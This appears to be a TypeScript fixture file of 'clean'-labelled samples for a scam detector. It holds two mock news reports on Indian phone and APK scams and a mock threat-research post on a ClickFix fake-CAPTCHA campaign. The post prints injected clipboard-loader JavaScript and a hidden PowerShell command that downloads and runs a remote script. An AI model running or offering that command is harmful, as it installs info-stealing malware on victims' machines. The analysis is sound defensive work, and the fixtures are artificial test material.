import { type Entry } from '../entry.js';
import { doc, newsArticle } from '../parts/xa-kit.js';

/**
 * News reports and security-research posts that quote scam texts, drainer code and ClickFix commands
 * verbatim — in Hindi, English, Bengali and Marathi.
 */
export const entries: Entry[] = [
{
  id: 'xa-clean-news-hindi-digital-arrest-retired-engineer',
  label: 'clean',
  kind: 'news-quoting-scam',
  url: 'https://www.dainikkhabar.in/rajya/maharashtra/pune-digital-arrest-retired-engineer-loses-1-2-crore-article-88214',
  body: newsArticle({
    outlet: 'दैनिक ख़बर',
    color: '#b71c1c',
    lang: 'hi',
    section: 'महाराष्ट्र',
    headline: 'पुणे: "CBI अधिकारी" बनकर 6 दिन तक रखा डिजिटल अरेस्ट, रिटायर्ड इंजीनियर से 1.2 करोड़ ठगे',
    dek: 'ठगों ने वीडियो कॉल पर नकली पुलिस स्टेशन दिखाया और "RBI सत्यापन खाते" में पैसे जमा करवाए',
    byline: 'संवाददाता, पुणे',
    date: '14 अक्टूबर 2025',
    paras: [
      'पुणे के कोथरूड में रहने वाले 71 वर्षीय सेवानिवृत्त इंजीनियर को साइबर ठगों ने छह दिन तक "डिजिटल अरेस्ट" में रखकर ₹1.2 करोड़ ठग लिए। पुलिस के मुताबिक, पीड़ित को पहले एक कॉल आया जिसमें कहा गया कि "TRAI की ओर से आपका मोबाइल नंबर 2 घंटे में बंद कर दिया जाएगा"।',
      'इसके बाद कॉल एक कथित "मुंबई साइबर पुलिस" अधिकारी को ट्रांसफर किया गया, जिसने कहा:',
      '<blockquote>"आपके आधार कार्ड से कैनरा बैंक में एक खाता खोला गया है जिसमें नरेश गोयल मनी लॉन्ड्रिंग केस के ₹2.8 करोड़ आए हैं। आप डिजिटल अरेस्ट में हैं। यह बात किसी को बताई तो तुरंत गिरफ्तार कर लिए जाएंगे। जांच पूरी होने तक अपने सारे फंड RBI के सीक्रेट सुपरविज़न अकाउंट में ट्रांसफर करें, 45 मिनट में वापस कर दिए जाएंगे।"</blockquote>',
      'ठगों ने व्हाट्सऐप पर CBI की मुहर वाला एक नकली "गिरफ्तारी वारंट" और "सुप्रीम कोर्ट का आदेश" भी भेजा। पीड़ित ने अपनी FD तोड़कर तीन किस्तों में पैसे भेजे।',
      'पुणे साइबर पुलिस के वरिष्ठ निरीक्षक ने बताया, "कानून में डिजिटल अरेस्ट जैसी कोई व्यवस्था नहीं है। कोई भी सरकारी एजेंसी वीडियो कॉल पर पूछताछ नहीं करती और न ही पैसे ट्रांसफर करवाती है। ऐसा कॉल आए तो तुरंत 1930 पर शिकायत करें।"',
    ],
    aside: '<aside><b>संबंधित ख़बरें</b><a href="/rajya/maharashtra/nashik-task-fraud-article-88102">नाशिक: यूट्यूब लाइक टास्क के नाम पर 14 लाख की ठगी</a><a href="/tech/upi-pin-receive-money-myth-article-87990">पैसे पाने के लिए UPI PIN नहीं लगता – जानें</a></aside>',
  }),
},
{
  id: 'xa-clean-news-wedding-invite-apk-alert',
  label: 'clean',
  kind: 'news-quoting-scam',
  url: 'https://www.hindustanherald.com/technology/whatsapp-wedding-invitation-apk-scam-how-to-stay-safe-101728391',
  body: newsArticle({
    outlet: 'Hindustan Herald',
    color: '#6a1b9a',
    section: 'Technology',
    headline: 'Wedding invitation on WhatsApp? Don\'t open that APK file, warns police',
    dek: 'Files named "Wedding_Invitation_Card.apk" are stealing SMS and OTPs from Android phones',
    byline: 'Tech Desk',
    date: 'November 3, 2025',
    paras: [
      'With the wedding season underway, cyber police in several states have warned of a surge in a scam in which people receive a "digital wedding card" on WhatsApp from an unknown number — or from a hacked contact.',
      'The message typically reads: <blockquote>"शादी में ज़रूर आना 🙏 Rahul weds Pooja – 23 Nov. Invitation card attached: Wedding_Invitation_Card.apk"</blockquote>',
      'When installed, the app asks for permission to read SMS and notifications. It then forwards incoming messages, including bank OTPs, to a Telegram bot controlled by the attackers, and sends the same APK to all WhatsApp contacts of the victim.',
      'Security researchers say similar apps are circulated as "RTO Traffic Challan.apk", "PM Kisan Yojana.apk" and "SBI YONO Reward.apk". Legitimate apps are distributed through the Google Play Store; genuine wedding invitations are images, PDFs or videos, never .apk files.',
      '<p><b>What to do if you installed it:</b> switch on airplane mode, uninstall the app from Settings › Apps, inform your bank to block your cards and UPI, and report at cybercrime.gov.in or 1930.</p>',
    ],
  }),
},
{
  id: 'xa-clean-blog-clickfix-analysis-india-campaign',
  label: 'clean',
  kind: 'security-blog-quoting-code',
  url: 'https://labs.securelayer-india.com/blog/clickfix-fake-captcha-indian-job-portals',
  body: doc({
    title: 'ClickFix on Indian job portals: dissecting a fake reCAPTCHA injector | SecureLayer Labs',
    css: `body{margin:0;font-family:'IBM Plex Sans',Arial;color:#1f2937;background:#fff}.h{background:#111827;color:#fff;padding:14px 30px}.m{max-width:820px;margin:30px auto;padding:0 20px;line-height:1.7}pre{background:#0f172a;color:#e2e8f0;padding:14px;border-radius:6px;overflow:auto;font-size:13px}code{background:#f1f5f9;padding:1px 4px}table{border-collapse:collapse;font-size:13px}td,th{border:1px solid #ddd;padding:6px 10px}`,
    body: `<div class="h"><b>SecureLayer Labs</b> · Threat Research</div>
<article class="m"><h1>ClickFix on Indian job portals: dissecting a fake reCAPTCHA injector</h1><p><i>October 2025 · Threat Intelligence Team</i></p>
<p>Since August we have tracked a cluster of compromised WordPress job sites in Maharashtra and Karnataka whose theme JavaScript (<code>assets/js/jquery.min.js</code>) was replaced with a loader that shows a fake reCAPTCHA only to Windows visitors. The relevant part of the injected code, de-obfuscated:</p>
<pre>if (document.cookie.indexOf('_rcv=1') &gt; -1 || /bot|crawl|spider/i.test(navigator.userAgent)) return;
var cmd = atob('cG93ZXJzaGVsbCAtdyBoIC1ub3AgLWMg...') + ' # ✔ Human verification complete. ID 58213';
// overlay: "1. Press Windows Key + R  2. Press CTRL + V  3. Press Enter"
document.getElementById('rcv').onclick = function () {
  var t = document.createElement('textarea'); t.value = cmd;
  document.body.appendChild(t); t.select(); document.execCommand('copy'); t.remove();
};</pre>
<p>The clipboard receives:</p>
<pre>powershell -w h -nop -c "$u='https://cdn-jsdelivr[.]top/ver/rc.ps1';iex(irm $u)" # ✔ Human verification complete. ID 58213</pre>
<p>The trailing comment is what the victim sees in the Run box, hiding the command. <code>rc.ps1</code> drops Lumma Stealer to <code>%APPDATA%\\Microsoft\\Crypto\\svc</code> and persists via the <code>HKCU\\...\\Run</code> key.</p>
<h3>Indicators</h3><table><tr><th>Type</th><th>Value</th></tr><tr><td>Domain</td><td>cdn-jsdelivr[.]top</td></tr><tr><td>Domain</td><td>sarkarinaukri-result2025[.]in</td></tr><tr><td>SHA-256</td><td>4e1f0c…b92a (rc.ps1)</td></tr></table>
<h3>Detection</h3><p>Hunt for <code>RunMRU</code> entries containing <code>powershell</code>, <code>mshta</code> or <code>conhost --headless</code>, and for <code>explorer.exe</code> spawning PowerShell with <code>-w h</code>.</p></article>`,
  }),
},
];
